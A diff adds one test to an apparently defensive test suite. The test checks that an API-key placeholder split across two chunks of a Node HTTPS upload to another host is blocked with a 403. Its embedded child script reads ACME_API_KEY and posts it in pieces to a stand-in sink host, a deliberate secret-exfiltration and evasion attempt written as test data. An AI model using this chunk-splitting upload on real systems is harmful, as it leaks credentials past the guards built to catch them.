@@ -157,6 +157,19 @@ test("a Node child's fetch: a placeholder in a POST body to another provider's h
   assert.ok(got.every((q) => !q.body.includes('"key"') && !q.body.includes("y")), "bytes before the placeholder may leave; it and what follows never do");
 });
 
+test("a Node child's node:https: a placeholder cut across two chunks of a chunked upload is 403", async () => {
+  const script = `import https from "node:https";
+const key = process.env.ACME_API_KEY, cut = 9;
+const req = https.request("${sink}/node-chunked", { method: "POST" }, (res) => { let t = ""; res.on("data", (d) => (t += d)); res.on("end", () => console.log(res.statusCode, t)); });
+req.on("error", (e) => console.log("error", e.message));
+req.write("key=" + key.slice(0, cut), () => req.end(key.slice(cut) + "&tail=y"));`;
+  const r = await run(["node", "--input-type=module", "-e", script]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.match(r.stdout, /^403 .*acme placeholder .*sink\.example\.test/);
+  const got = sunk.filter((q) => q.url === "/node-chunked");
+  assert.ok(got.every((q) => !q.body.includes("key=") && !q.body.includes("tail")), JSON.stringify(got));
+});
+
 test("a Deno child's fetch: a placeholder in the query to another provider's host is 403", async () => {
   const deno = join(repoRoot, "node_modules/.bin/deno");
   if (spawnSync(deno, ["--version"]).status !== 0) return assert.fail("deno binary missing");
